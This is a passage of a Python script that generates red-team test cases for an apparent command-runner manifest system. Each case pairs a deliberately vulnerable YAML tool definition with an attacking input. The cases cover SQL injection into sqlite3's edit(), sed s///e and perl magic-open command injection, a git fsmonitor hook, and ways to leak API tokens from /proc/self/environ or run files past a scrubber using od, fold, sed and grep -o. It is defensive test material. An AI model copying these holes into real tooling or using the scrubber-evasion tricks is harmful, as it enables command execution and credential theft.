name: r2a_058
description: Count the schema objects of a given name in a scratch SQLite database.
programs:
  sqlite3:
    options_with_value: [-cmd, -separator]
    flags: [-readonly, -batch, -json]
    runs_operands: false
    stdin: data
args:
  name: {type: string, minLength: 1, maxLength: 200}
required: [name]
steps:
  - name: count
    run: |
      printf "select count(*) from sqlite_master where name = '%s';\\n" "$ARG_name" | sqlite3 -batch "$HARBOR_RUN_DIR/scratch.db"
""", {"name": "x' union select edit('a', '" + PAY + " >&2; true'); --"},
 "programs-entry", "An operator entry declaring sqlite3's stdin as data; SQL injection then reaches edit(), which the sqlite3 shell runs through system().")

add("programs-yq-path", """
name: r2a_059
description: Read one value from a YAML document by path (e.g. .spec.replicas).
programs:
  yq:
    options_with_value: [--arg]
    flags: [-r, -y, -e]
    runs_operands: false
    stdin: data
args:
  doc: {type: string, multiline: true, maxLength: 100000}
  path: {type: string, minLength: 1, maxLength: 200, pattern: "^[^-].*$"}
required: [doc, path]
steps:
  - name: get
    run: printf '%s' "$ARG_doc" | yq -r "$ARG_path"
""", {"doc": "a: 1\n", "path": "\"HARBOR-PWNED-\\(6*7)\""},
 "programs-entry", "yq's first operand is a jq filter (code); an operator entry with runs_operands: false makes it 'data'.")

# ---------- secrets ----------
add("secret-argv-od-environ", SEC + """
name: r2a_060
description: Show the bytes of a file as characters (od -c), for debugging encodings.
args:
  file: {type: string, minLength: 1, maxLength: 4096}
required: [file]
steps:
  - name: dump
    argv: [od, -An, -c, --, "{{ args.file }}"]
""".replace("name: r2a_060", "name: r2a_060", 1), {"file": "/proc/self/environ"},
 "secret-leak", "An argv step's program gets every secret in its environment; the caller names /proc/self/environ and od -c spaces the characters out, which the scrubber does not recognise.")

add("secret-argv-fold-environ", SEC + """
name: r2a_061
description: Wrap a text file to a given width.
args:
  file: {type: string, minLength: 1, maxLength: 4096}
  width: {type: integer, minimum: 1, maximum: 200, default: 80}
required: [file]
steps:
  - name: wrap
    argv: [fold, -w, "{{ args.width }}", --, "{{ args.file }}"]
""", {"file": "/proc/self/environ", "width": 1},
 "secret-leak", "fold, given the secret in its environment by the argv step, prints /proc/self/environ one character per line.")

add("secret-argv-sed-l", SEC + """
name: r2a_062
description: Show a file with non-printing characters made visible, wrapped at a width.
args:
  file: {type: string, minLength: 1, maxLength: 4096}
  width: {type: integer, minimum: 2, maximum: 200, default: 70}
required: [file]
steps:
  - name: show
    argv: [sed, -n, "l {{ args.width }}", --, "{{ args.file }}"]
""", {"file": "/proc/self/environ", "width": 3},
 "secret-leak", "sed's l command wraps with a backslash-newline; the scrubber misses the cut token, the scorer's normalisation does not.")

add("secret-runfile-fold", SEC + """
name: r2a_063
description: Fetch-prep an API call and show one of the prepared artifacts, wrapped.
args:
  artifact: {type: string, pattern: "^[a-z][a-z0-9_.]{0,40}$", default: "request.txt"}
  width: {type: integer, minimum: 1, maximum: 200, default: 100}
steps:
  - name: prep
    run: |
      cd "$HARBOR_RUN_DIR"
      umask 077
      printf 'header = "Authorization: Bearer %s"\\n' "$API_TOKEN" > curl.cfg
      printf 'GET /v1/status\\n' > request.txt
      fold -w {{ args.width }} -- "$ARG_artifact"
""", {"artifact": "curl.cfg", "width": 4},
 "secret-leak", "Writing the secret to a file of the run directory is accepted; the caller picks which file is shown (a W103 warning only), and fold cuts the token so no scrubbed form matches.")

add("secret-runfile-grep-o", SEC + """
name: r2a_064
description: Prepare a request, then search the prepared files for a pattern (only the matching parts).
args:
  pattern: {type: string, minLength: 1, maxLength: 200}
required: [pattern]
steps:
  - name: prep
    run: |
      mkdir -p "$HARBOR_RUN_DIR/req"
      printf 'header = "Authorization: Bearer %s"\\n' "$API_TOKEN" > "$HARBOR_RUN_DIR/req/curl.cfg"
      printf 'url = "https://api.example.com/v1/status"\\n' > "$HARBOR_RUN_DIR/req/target.cfg"
  - name: search
    run: grep -rho -e "$ARG_pattern" -- "$HARBOR_RUN_DIR/req" || true
""", {"pattern": "."},
 "secret-leak", "grep -o with the caller's pattern '.' prints the secret file one character per line; grep is a program that prints what it reads, but only in pieces.")

add("secret-runfile-od", SEC + """
name: r2a_065
description: Prepare the auth files for a deploy and dump one of them as characters for debugging.
args:
  file: {type: string, pattern: "^[a-z][a-z0-9_.]{0,40}$", default: "deploy.env"}
steps:
  - name: prep
    run: |
      cd "$HARBOR_RUN_DIR"
      printf 'TOKEN=%s\\n' "$API_TOKEN" > auth.env
      printf 'TARGET=staging\\n' > deploy.env
      od -An -c -- "$ARG_file"
""", {"file": "auth.env"},
 "secret-leak", "od -c of a caller-chosen run-directory file that the script wrote the secret into.")

add("secret-author-od", SEC + """
name: r2a_066
description: Check that the configured API token has no stray whitespace or control characters.
steps:
  - name: check
    run: |
      printf '%s' "$API_TOKEN" | od -An -c | head -n 4
      echo "length: ${#API_TOKEN}"
""", {},
 "secret-leak", "A debugging idiom: od -c of the token. H010 lists cat-like printers; od prints what it reads too, spaced so the scrubber misses it.")

add("secret-argv-grep-environ", SEC + """
name: r2a_067
description: Search a text file for a pattern, showing only the matching parts.
args:
  pattern: {type: string, minLength: 1, maxLength: 200}
  file: {type: string, minLength: 1, maxLength: 4096}
required: [pattern, file]
steps:
  - name: grep
    argv: [grep, -a, -o, -e, "{{ args.pattern }}", --, "{{ args.file }}"]
""", {"pattern": "[A-Za-z0-9_=]", "file": "/proc/self/environ"},
 "secret-leak", "argv program holds the secret in its environment; grep -o with a one-character class prints it character by character.")

# ---------- more edges ----------
add("sed-e-flag-argv", """
name: r2a_068
description: Convert each caller-given epoch second to an ISO date.
args:
  stamps: {type: string, multiline: true, maxLength: 4000}
required: [stamps]
steps:
  - name: conv
    run: printf '%s\\n' "$ARG_stamps" | sed 's/.*/date -u -d @& +%FT%TZ/e'
""", {"stamps": "0\n0;" + PAY + " >&2"},
 "interpreter-primitive", "Another s///e: '&' (the whole caller line) is placed into the command unquoted.")

add("perl-lane-argv-files", """
name: r2a_069
description: Print the first field of each line of the given files.
args:
  files: {type: array, items: {type: string}, minItems: 1, maxItems: 20}
required: [files]
steps:
  - name: fields
    run: |
      mapfile -t fs < <(jq -r '.[]' <<< "$ARG_files")
      perl -lane 'print $F[0]' -- "${fs[@]}"
""", {"files": ["/etc/passwd", PAY + "|"]},
 "interpreter-primitive", "perl -a/-n loop: every operand is opened with magic open; items of an array arg are only held to no-leading-dash.")

add("git-grep-cwd-repo", """
name: r2a_070
description: Search an uploaded repository's tracked files for a fixed string.
args:
  repo: {type: string, contentEncoding: base64, max_bytes: 4194304}
  text: {type: string, minLength: 1, maxLength: 200}
required: [repo, text]
steps:
  - name: grep
    run: |
      d="$HARBOR_RUN_DIR/r"; mkdir -p "$d"
      tar -xzf "$ARG_repo" -C "$d"
      cd "$d"
      git diff --quiet || echo "(uncommitted changes)"
      git grep -n -F -e "$ARG_text" || echo "no match"
    env: {GIT_PAGER: cat}
""", {"repo": git_repo, "text": "hi"},
 "caller-folder-code", "After cd into the caller's checkout, git (a program with a grammar) reads the caller's .git/config: core.fsmonitor runs on diff.")

for i, (slug, y, args, cls, why) in enumerate(A, 1):
    y = y.replace("name: r2a_", "name: r2a_", 1)
    import re
    y = re.sub(r"^name: r2a_\d+", f"name: r2a_{i:03d}", y, count=1, flags=re.M)
    write("attacks", i, slug, y, args, cls, why)
print(len(A))
